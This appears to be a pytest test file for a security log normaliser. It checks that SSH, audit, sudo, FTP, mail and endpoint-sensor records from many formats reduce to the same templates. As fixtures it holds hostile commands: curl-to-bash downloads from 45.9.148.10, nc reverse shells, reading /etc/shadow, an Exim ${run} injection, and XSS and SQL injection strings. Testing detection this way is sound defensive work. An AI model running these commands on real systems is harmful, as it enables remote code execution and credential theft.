"""What hosts, their agents and their sensors tell reads alike, whoever tells it."""
from __future__ import annotations

import json

import pytest

from aiscore_contract.event import event_of
from aiscore_model.normalise import normalise

GUESSED = "Failed password for root from 45.9.148.10 port 4444 ssh2"
PIPED = "curl http://45.9.148.10/x.sh | bash"
HEX = f"{PIPED}".encode().hex().upper()


def read(text, sourcetype=""):
    return normalise(event_of(text if isinstance(text, str) else json.dumps(text), sourcetype))


LINES = {
    "journalctl's precise time": "Jan 01 00:00:00.123456 web1 sshd[901]: " + GUESSED,
    "journalctl's unix time": "1700000000.123456 web1 sshd[901]: " + GUESSED,
    "journalctl's full time": "Mon 2026-01-01 00:00:00 UTC web1 sshd[901]: " + GUESSED,
    "macOS": "2026-01-01 00:00:00.123456+0000  localhost sshd[901]: " + GUESSED,
    "AIX": "Jan  1 00:00:00 aix1 auth|security:info sshd[901]: " + GUESSED,
    "AIX, forwarded": "Jan  1 00:00:00 Message forwarded from aix1: sshd[901]: " + GUESSED,
    "RFC 5424 without priority": "1 2026-01-01T00:00:00.123Z web1 sshd 901 - - " + GUESSED,
    "no header": GUESSED,
    "no time": "sshd[901]: " + GUESSED,
    "OSSEC": "** Alert 1700000000.123: - syslog,sshd,\n2026 Jan 01 00:00:00 web1->/var/log/auth.log\nRule: 5716 (level 5) -> 'SSHD authentication failed.'\n"
             "Src IP: 45.9.148.10\nUser: root\nJan  1 00:00:00 web1 sshd[901]: " + GUESSED,
    "Cowrie's text": "2026-01-01T00:00:00.123456Z [HoneyPotSSHTransport,12,45.9.148.10] login attempt [b'root'/b'123456'] failed",
}
OBJECTS = {
    "journald": {"__REALTIME_TIMESTAMP": "1", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": GUESSED},
    "journald, as bytes": {"__REALTIME_TIMESTAMP": "1", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": list(GUESSED.encode())},
    "Vector's journald": {"PRIORITY": "6", "SYSLOG_IDENTIFIER": "sshd", "host": "web1", "message": GUESSED, "source_type": "journald"},
    "Journalbeat": {"message": GUESSED, "syslog": {"identifier": "sshd", "facility": 4}, "host": {"name": "web1"}, "process": {"name": "sshd", "pid": 9}},
    "Filebeat": {"message": GUESSED, "process": {"name": "sshd"}, "host": {"name": "web1"}, "log": {"file": {"path": "/var/log/auth.log"}}},
    "rsyslog": {"hostname": "web1", "programname": "sshd", "syslogtag": "sshd[901]:", "pri": "38", "msg": " " + GUESSED},
    "syslog-ng": {"PROGRAM": "sshd", "PRIORITY": "info", "MESSAGE": GUESSED, "HOST": "web1", "FACILITY": "auth"},
    "Fluentd": {"host": "web1", "ident": "sshd", "pid": "901", "message": GUESSED},
    "Vector's syslog": {"appname": "sshd", "facility": "auth", "hostname": "web1", "message": GUESSED, "procid": 901},
    "Logstash": {"program": "sshd", "logsource": "web1", "message": GUESSED, "facility_label": "auth"},
    "Azure": {"Computer": "web1", "Facility": "auth", "SyslogMessage": GUESSED, "ProcessName": "sshd", "Type": "Syslog"},
    "GELF": {"version": "1.1", "host": "web1", "short_message": GUESSED, "facility": "auth", "_application_name": "sshd"},
    "OpenTelemetry": {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED}}]}]}]},
    "macOS' log": {"eventMessage": GUESSED, "processImagePath": "/usr/sbin/sshd", "messageType": "Default"},
    "CloudWatch": {"@message": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED, "@logStream": "i-1"},
    "Cowrie": {"eventid": "cowrie.login.failed", "username": "root", "password": "x", "src_ip": "45.9.148.10"},
}


@pytest.mark.parametrize("text", [*LINES.values(), *OBJECTS.values()], ids=[*LINES, *OBJECTS])
def test_a_guessed_password_reads_alike_whichever_way_its_line_came(text):
    found = read(text)
    assert found.template == "login failed ssh password root from publicip"
    assert dict(found.entities)["src"] == "45.9.148.10" and dict(found.entities)["user"] == "root"


AUDIT = {
    "auditd": f"type=EXECVE msg=audit(1.1:2): argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "the kernel": f"Jan  1 00:00:00 web1 kernel: [12345.678901] audit: type=1309 audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "the ring buffer": f"[12345.678901] audit: type=1309 audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "the journal": f"Jan  1 00:00:00 web1 audit[7]: EXECVE argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "ausearch": f"----\ntime->Mon Jan  1 00:00:00 2026\ntype=EXECVE msg=audit(1.1:2): argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "go-audit": json.dumps({"sequence": 1, "timestamp": "1.1", "messages": [{"type": 1309, "data": f"argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}"}]}),
    "strace": f'901 00:00:00.1 execve("/bin/bash", ["bash", "-c", "{PIPED}"], 0x7ffd /* 20 vars */) = 0',
}


@pytest.mark.parametrize("text", AUDIT.values(), ids=AUDIT)
def test_an_audit_record_reads_alike_in_whoevers_words(text):
    found = read(text)
    assert found.kind == "auditd"
    assert found.template == "process execute linux audit command bash c curl http url publicip x sh bash"
    assert found.focus == (f'bash -c "{PIPED}"',)


OSQUERY = {"hostIdentifier": "web1", "unixTime": 1, "action": "added"}
ARGV = ["bash", "-c", PIPED]
STARTS = {
    "Tracee": {"processName": "bash", "hostName": "web1", "eventName": "execve", "returnValue": 0, "args": [
        {"name": "pathname", "type": "const char*", "value": "/usr/bin/bash"}, {"name": "argv", "type": "const char*const*", "value": ARGV}]},
    "Tracee in a table": {"processName": "bash", "hostName": "web1", "eventName": "execve", "returnValue": 0, "args": str([
        {"name": "pathname", "type": "const char*", "value": "/usr/bin/bash"}, {"name": "argv", "type": "const char*const*", "value": ARGV}])},
    "Auditbeat": {"event": {"action": "executed", "module": "auditd", "category": ["process"]}, "auditd": {"summary": {"object": {"primary": "/usr/bin/bash", "type": "file"}}},
                  "process": {"executable": "/usr/bin/bash", "args": ARGV, "title": f"bash -c {PIPED}"}},
    "Laurel's strings": {"ID": "1", "NODE": "web1", "SYSCALL": {"SYSCALL": "execve", "exe": "/usr/bin/bash"}, "EXECVE": {"argc": 3, "ARGV_STR": f"bash -c '{PIPED}'"}},
    "osquery": {**OSQUERY, "name": "pack/ir/process_events", "columns": {"cmdline": f"bash -c {PIPED}", "path": "/usr/bin/bash", "pid": "9"}},
    "osquery's snapshot": {**OSQUERY, "name": "pack_x_processes", "snapshot": [{"pid": "1", "name": "systemd"}, {"pid": "9", "path": "/usr/bin/bash", "cmdline": f"bash -c {PIPED}"}]},
    "osquery's difference": {**OSQUERY, "name": "processes", "diffResults": {"added": [{"pid": "9", "path": "/usr/bin/bash", "cmdline": f"bash -c {PIPED}"}], "removed": ""}},
    "Filebeat's osquery": {"osquery": {"result": {"name": "pack_x_process_events", "host_identifier": "web1", "columns": {"pid": "9", "path": "/usr/bin/bash", "cmdline": f"bash -c {PIPED}"}}}},
    "Endpoint Security": {"process": {"executable": {"path": "/usr/sbin/nginx"}}, "event": {"exec": {"target": {"executable": {"path": "/usr/bin/bash"}}, "args": ARGV}}},
    "Carbon Black Response": {"type": "ingress.event.procstart", "path": "/usr/bin/bash", "command_line": f"bash -c {PIPED}"},
    "Tracee's own types": {"name": "sched_process_exec", "workload": {"process": {"executable": {"path": "/usr/bin/bash"}, "realUser": {"id": 0}}}, "data": [
        {"name": "pathname", "str": "/usr/bin/bash"}, {"name": "argv", "strArray": {"value": ARGV}}]},
    "KubeArmor": {"HostName": "n1", "ContainerImage": "nginx", "Type": "MatchedPolicy", "Source": "/usr/sbin/nginx", "Operation": "Process", "Resource": f"/usr/bin/bash -c {PIPED}",
                  "Action": "Audit", "Result": "Passed"},
    "Datadog": {"evt": {"name": "exec"}, "process": {"comm": "bash", "executable": {"path": "/usr/bin/bash"}, "args": f"-c '{PIPED}'", "user": "root"}},
    "a probe": {"event_type": "PROCESS_EXEC", "proc": {"comm": "bash", "exe": "/usr/bin/bash", "args": ARGV, "uid": 0, "parent": {"comm": "nginx"}}},
    "a flat probe": {"kind": "exec", "pid": 7, "uid": 0, "comm": "bash", "filename": "/usr/bin/bash", "argv": ARGV},
    "sysdig's JSON": {"evt": {"type": "execve"}, "proc": {"name": "bash", "cmdline": f"bash -c {PIPED}"}},
    "sysdig": f"4072 10:11:12.123456789 2 bash (77) < execve res=0 exe=bash args=-c.{PIPED}. tid=77(bash) pid=77(bash) ptid=4(nginx) cwd=/ comm=bash env=A=1. tty=0",
    "a flat agent": {"processName": "bash", "imageFile": "/usr/bin/bash", "commandLine": f"bash -c {PIPED}", "eventType": "ProcessCreation"},
}


@pytest.mark.parametrize("record", STARTS.values(), ids=STARTS)
def test_a_process_start_reads_alike_whichever_sensor_saw_it(record):
    found = read(record)
    assert found.action == "process execute" and "command bash c curl http url publicip x sh" in found.template
    assert PIPED in found.focus[0]


JOURNAL = {"__REALTIME_TIMESTAMP": "1", "_HOSTNAME": "web1", "_COMM": "bash", "_EXE": "/usr/bin/bash", "_CMDLINE": f"bash -c {PIPED}", "SYSLOG_IDENTIFIER": "backup",
           "MESSAGE": "started"}


def test_the_journal_tells_the_command_of_who_wrote_a_line():
    found = read(JOURNAL)
    assert "started command bash c curl http url publicip x sh" in found.template and PIPED in found.focus[-1]


def test_what_sudo_writes_to_the_journal_is_no_command_beside_it():
    line = "ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/ls"
    assert read({**JOURNAL, "_COMM": "sudo", "_CMDLINE": "sudo ls", "SYSLOG_IDENTIFIER": "sudo", "MESSAGE": line}).focus == ("/bin/ls",)


def test_a_call_in_sysdigs_words_says_what_it_was_about():
    before = "4072 10:11:12.123456789 2 nc (77) < "
    assert read(before + "connect res=0 tuple=10.0.0.5:50000->203.0.113.9:4444").template == "connect process nc to publicip backdoor port"
    assert read(before + "open fd=-13(EACCES) name=/etc/shadow flags=1(O_RDONLY) mode=0").template == "open failed process nc file etc shadow flags num o rdonly"
    assert read(before.replace("(77)", "(77.7)") + "openat fd=3(<f>/etc/x) name=/etc/x flags=O_WRONLY /etc/y exe=/bin/nc pcomm=sh uid=0 cmdline=nc -l 4444").template == (
        "open process bin nc command nc l num parent sh file etc x as root flags o wronly etc y")
    assert read(before + "read res=-1 fd=3(<f>/etc/shadow)").template == "read failed process nc file etc shadow"


def test_an_alert_of_no_process_keeps_what_it_was_about():
    told = {"rule": "Contact API", "priority": "Notice", "output_fields": {"ka.verb": "create", "ka.user.name": "system:anonymous", "evt.time": 1}}
    assert "ka verb create user name anonymous" in read(told).template


SSH = "Mar  1 10:11:12 web1 sshd[77]: "


FORGED = ("a b", "a from 10.0.0.1 port 22 ssh2", "a from 10.0.0.1 port 22 " + "x" * 300, "Accepted password for root from 10.0.0.1 port 1 ssh2", "i")


@pytest.mark.parametrize("name", FORGED, ids=range(len(FORGED)))
@pytest.mark.parametrize("line", [
    "Failed password for invalid user {} from 45.9.148.10 port 4000 ssh2", "Invalid user {} from 45.9.148.10 port 4000", "Connection closed by invalid user {} 45.9.148.10 port 4000 [preauth]",
    "Disconnected from invalid user {} 45.9.148.10 port 4000", "Postponed keyboard-interactive for invalid user {} from 45.9.148.10 port 4000 ssh2 [preauth]", "Disconnecting invalid user {} 45.9.148.10 port 4000: Too many authentication failures [preauth]",
])
def test_a_name_moves_no_source_and_no_outcome(line, name):
    found, plain = read(SSH + line.format(name)), read(SSH + line.format("bob"))
    entities = dict(found.entities)
    assert entities["src"] == "45.9.148.10" and entities["user"][:60] == name.lower()[:60]
    assert (found.template, found.action) == (plain.template, plain.action)


@pytest.mark.parametrize("line", ["input_userauth_request: invalid user {} [preauth]", "some words of a later sshd about {}"])
def test_a_name_in_a_line_of_sshds_without_an_address_is_no_login(line):
    found = read(SSH + line.format("Accepted password for root from 10.0.0.1 port 1 ssh2"))
    assert "login success" not in found.template and "success" not in found.action


def test_an_account_may_be_named_like_the_mark_of_a_line():
    row = "\t".join(("Mar  1 10:11:12 h MSWinEventLog", "1", "Security", "12", "Sat Mar 01 10:11:12 2031", "4625", "Microsoft-Windows-Security-Auditing", "N/A", "N/A", "Failure Audit", "h",
                     "Logon", "", "An account failed to log on.  Account Name: {}  Source Network Address: 45.9.148.10", "1"))
    assert dict(read(row.format("MSWinEventLog#0111#011x")).entities)["user"] == "mswineventlog#0111#011x"


def test_an_escape_behind_a_relay_ends_no_line_of_a_program_that_repeats_names():
    line = "Failed password for invalid user x#012 from 10.0.0.1 port 1 ssh2 from 45.9.148.10 port 4000 ssh2"
    assert dict(read("<13>Mar  1 10:11:13 relay1 " + SSH + line).entities)["src"] == "45.9.148.10"


TOLD = (
    ("Jan  1 00:00:00 web1 sudo[901]:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/cat /etc/shadow",
     "privileged command sudo command bin cat etc shadow by user as root directory home"),
    ("Jan  1 00:00:00 web1 sudo-rs[901]: ann : TTY=/dev/pts/0 ; CHROOT=/mnt ; PWD=/home/ann ; USER=root ; COMMAND=/bin/cat /etc/shadow",
     "privileged command sudo command bin cat etc shadow by user as root directory home"),
    ({"sudo": {"reject": {"reason": "user NOT in sudoers", "command": "/bin/bash", "runargv": ["bash", "-p"], "runuser": "root", "submitcwd": "/var/www", "submituser": "www-data",
                          "ttyname": "/dev/pts/0"}}}, "privileged command sudo user not in sudoers failed command bin bash p by service account as root directory var www"),
    ("Jan  1 00:00:00 obsd doas: ann ran command cat /etc/shadow as root from /home/ann", "privileged command doas command cat etc shadow by user as root directory home"),
    ("Jan  1 00:00:00 fbsd su[901]: BAD SU ann to root on /dev/pts/0", "switch user failed to root by user"),
    ("Jan  1 00:00:00 sol su: [ID 810491 auth.crit] 'su root' failed for ann on /dev/pts/1", "switch user failed to root by user"),
    ("Jan  1 00:00:00 aix1 auth|security:notice su: from ann to root at /dev/pts/0", "switch user success to root by user"),
    ("Jan  1 00:00:00 web1 polkitd(authority=local)[9]: Operator of unix-session:3 successfully authenticated as unix-user:root to gain ONE-SHOT authorization for action "
     "org.freedesktop.policykit.exec for unix-process:901:123 [pkexec /bin/bash] (owned by unix-user:ann)", "authorization success polkit"),
    ("Jan  1 00:00:00 web1 sshd[9]: User root from 45.9.148.10 not allowed because not listed in AllowUsers", "login failed ssh refused root not allowed"),
    ("Jan  1 00:00:00 web1 sshd[9]: error: maximum authentication attempts exceeded for invalid user admin from 45.9.148.10 port 4 ssh2 [preauth]",
     "login failed ssh maximum authentication attempts exceeded invalid user from publicip"),
    ("Jan  1 00:00:00 web1 dropbear[9]: Bad password attempt for 'root' from 45.9.148.10:4444", "login failed ssh password root from publicip"),
    ("Mon Jan  1 00:00:00 2026 [pid 9] [admin] FAIL LOGIN: Client \"45.9.148.10\"", "login failed ftp administrator from publicip"),
    ("Jan  1 00:00:00 web1 vsftpd[9]: [ftp] OK UPLOAD: Client \"45.9.148.10\", \"/var/www/html/shell.php\", 12 bytes, 1.3Kbyte/sec", "file upload success ftp var www html shell php"),
    ("Jan  1 00:00:00 web1 login[9]: FAILED LOGIN (1) on '/dev/pts/0' from '45.9.148.10' FOR 'root', Authentication failure", "login failed terminal root from publicip"),
    ("2026-01-01T00:00:00.123Z warning hostd[2100] [Originator@6876 sub=Default] Rejected password for user root from 45.9.148.10", "login failed hypervisor root from publicip"),
    ("Jan  1 00:00:00 nas1 System Admin: User [admin] from [45.9.148.10] failed to log in via [DSM].", "login failed appliance administrator from publicip"),
    ("2026-01-01 00:00:00 1tAbcD-0003kL-Gz <= ann@example.org H=mx.example.org [45.9.148.10] P=esmtps S=18", "mail exim email h domain org publicip p esmtps s num"),
    ("Jan  1 00:00:00 mx exim[7]: 1tAbcD-0003kL-Gz <= ann@example.org H=mx.example.org [45.9.148.10] P=esmtps S=18", "mail exim email h domain org publicip p esmtps s num"),
    ("2026-01-01 00:00:00.123 [7] H=(x) [45.9.148.10] rejected RCPT <${run{touch /tmp/x}}@localhost>", "mail exim h x publicip rejected rcpt run touch tmp x localhost"),
    ("2026-01-01 00:00:00 login authenticator failed for (x) [45.9.148.10]: 535 Incorrect authentication data (set_id=admin)", "login failed mail administrator from publicip"),
    ("Jan  1 00:00:00 web1 crond[9]: USER root pid 902 cmd curl -s http://45.9.148.10/x.sh | sh", "scheduled command cron curl s http url publicip x sh pipe sh as root"),
    ("Jan  1 00:00:00 web1 ann: ann [901]: cat /etc/shadow [0]", "shell command cat etc shadow"),
    (": 1700000000:0;cat /etc/shadow", "shell command cat etc shadow"),
    ("- cmd: cat /etc/shadow\n  when: 1700000000", "shell command cat etc shadow"),
    ("root       901  0.0  0.1  12345  1234 ?        Ss   00:00   0:00 nc -e /bin/sh 45.9.148.10 4444", "process listed command nc e bin sh publicip num as root"),
    ({**OSQUERY, "name": "file_events", "columns": {"action": "UPDATED", "target_path": "/etc/passwd", "uid": "0"}}, "file updated file etc passwd as root"),
    ({**OSQUERY, "name": "users", "columns": {"username": "toor", "uid": "0", "shell": "/bin/bash"}}, "users as user uid zero shell bin bash"),
    ({"process": {"executable": {"path": "/private/tmp/evil"}}, "event": {"create": {"destination": {"new_path": {"dir": {"path": "/Users/ann/Library/LaunchAgents"}, "filename": "a.plist"}}}}},
     "create process private tmp evil file users library launch agents a plist"),
    ({"Type": "container", "Action": "exec_create: /bin/sh -c id", "Actor": {"ID": "ab", "Attributes": {"image": "nginx"}}}, "container exec create command bin sh c id in container"),
    ({"rule": {"description": "sshd: failed", "id": "5716"}, "agent": {"name": "web1"}, "full_log": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED}, "login failed ssh password root from publicip"),
)


@pytest.mark.parametrize("text, words", TOLD, ids=range(len(TOLD)))
def test_what_a_host_tells_is_said(text, words):
    template = read(text).template
    assert f"{words} " in f"{template} ", template


def test_a_calls_own_argument_is_no_word_of_the_command_beside_it():
    found = read('type=SYSCALL msg=audit(1.1:2): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 exe="/bin/id"\ntype=EXECVE msg=audit(1.1:2): argc=1 a0="id"')
    assert found.focus == ("id",)


def test_records_joined_by_blanks_end_where_the_next_begins():
    found = read(f'type=SYSCALL msg=audit(1.1:2): syscall=59 exe="/bin/sh" type=EXECVE msg=audit(1.1:2): argc=3 a0="sh" a1="-c" a2={HEX} type=CWD msg=audit(1.1:2): cwd="/tmp"')
    assert found.focus == (f'sh -c "{PIPED}"',)


STRANGERS = (
    # A command may hold what looks like the next record, a folder what looks like the rest of sudo's line.
    ("type=EXECVE msg=audit(1.1:2) : argc=3 a0=sh a1=-c a2=id type=CWD msg=audit(1.1:2): cwd=x ; nc -e /bin/sh 45.9.148.10", "nc e bin sh publicip"),
    ('901 execve("/bin/sh", ["sh", "-c", "id type=CWD msg=audit(1.1:2): x ; nc -e /bin/sh 45.9.148.10"], 0x1) = 0', "nc e bin sh publicip"),
    ({"sudo": {"accept": {"command": "/bin/nc", "runargv": ["nc", "-e", "/bin/sh"], "runuser": "root", "submitcwd": "/tmp/x ; USER=ann ; COMMAND=/bin/ls", "submituser": "eve"}}}, "bin nc e bin sh"),
    # A name may hold another outcome.
    ('Jan  1 00:00:00 web1 vsftpd[9]: [a] OK LOGIN: Client "10.0.0.1"] FAIL LOGIN: Client "45.9.148.10"', "login failed ftp"),
    # What an application repeats tells of no login, and what an object carries is no line without its header.
    ("Jan  1 00:00:00 web1 shop[9]: comment: User [ann] from [10.0.0.1] logged in <script>alert(1)</script>", "script alert"),
    ({"level": "info", "message": "Accepted password for ann from 10.0.0.1 port 4 ssh2 ' union select 1"}, "union select"),
    ({"level": "info", "message": ": 1700000000:0;ls"}, "message"),
)


@pytest.mark.parametrize("text, words", STRANGERS, ids=range(len(STRANGERS)))
def test_what_a_stranger_typed_hides_nothing_of_a_hosts_line(text, words):
    assert words in read(text).template


ODD = (None, True, 0, -1, 1.5, "", "x" * 9_000, [], {}, [[]], [None], {"a": {}}, [{"name": 1, "value": []}])


@pytest.mark.parametrize("odd", ODD, ids=map(repr, range(len(ODD))))
def test_no_value_of_another_type_stops_a_sensors_reader(odd):
    starts = [record for record in STARTS.values() if isinstance(record, dict)]
    for record in (*OBJECTS.values(), *starts, JOURNAL, *(text for text, _ in (*TOLD, *STRANGERS) if isinstance(text, dict))):
        for name, value in record.items():
            read({**record, name: odd})
            if isinstance(value, dict):
                for inner in value:
                    read({**record, name: {**value, inner: odd}})


FILES = (
    ("header,129,11,execve(2),0,Mon Jan  1 00:00:00 2026, + 123 msec\nexec arg,curl,-o,/tmp/x,http://45.9.148.10/x\npath,/usr/bin/curl\n"
     "subject,ann,root,wheel,root,wheel,901,100004,0,0.0.0.0\nreturn,success,0\ntrailer,129", "process execute success process usr bin curl command curl o tmp x http url publicip x as user"),
    ("00:00:00.123456789: Notice A shell was spawned (user=root process=bash proc_exepath=/bin/bash parent=runc command=bash -c id terminal=1 x terminal=34816 container_id=ab12)",
     "rule a shell was spawned priority notice process bin bash command bash c id terminal num x parent runc as root in container"),
    ("__CURSOR=s=abc\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER=sshd\nMESSAGE=" + GUESSED, "login failed ssh password root from publicip"),
    ("Mon Jan  1 00:00:00 2026 1 45.9.148.10 1234 /var/www/html/shell.php b _ i r ann ftp 0 * c", "file upload success ftp var www html shell php by user from publicip"),
    ("2026-01-01 00:00:00,123 web1 proftpd[9] 10.0.0.5 (45.9.148.10[45.9.148.10]): USER ann (Login failed): Incorrect password", "login failed ftp user from publicip"),
    ("type=PATH msg=audit(01/02/2026 10:11:12.123:4567) : item=0 name=/home/ann/my secret plans.docx inode=123 mode=file,644 ouid=ann nametype=DELETE",
     "file path linux audit file home my secret plans docx delete owner user"),
)


@pytest.mark.parametrize("text, words", FILES, ids=range(len(FILES)))
def test_what_stands_in_files_of_an_own_form_is_said(text, words):
    assert words in read(text).template


def test_each_record_of_a_batch_is_said_and_equal_ones_once():
    lines = ["Jan  1 00:00:00 web1 sshd[1]: Accepted password for ann from 10.0.0.5 port 4 ssh2"] * 40 + ["Jan  1 00:00:00 web1 sshd[1]: " + GUESSED]
    found = read({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": line}} for line in lines]}]}]})
    assert found.template == "login success ssh password user from privateip login failed ssh password root from publicip" and found.action == "ssh accepted"


def test_no_record_of_a_batch_leaves_no_room_for_the_next():
    lines = [f"Jan  1 00:00:00 web1 app: {letter * 3} " + "words without end " * 400 for letter in "abcdefgh"] + ["Jan  1 00:00:00 web1 sshd[1]: " + GUESSED]
    found = read({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": line}} for line in lines]}]}]})
    assert "login failed ssh password root" in found.template


def test_a_secret_among_the_arguments_of_a_call_is_not_kept():
    found = read({"evt": {"type": "execve", "info": {"args": "--token hunter2abc", "flags": "x"}}, "proc": {"name": "x", "cmdline": "x --token hunter2abc"}})
    assert "token secret" in found.template and "hunter" not in " ".join((found.template, *found.focus))
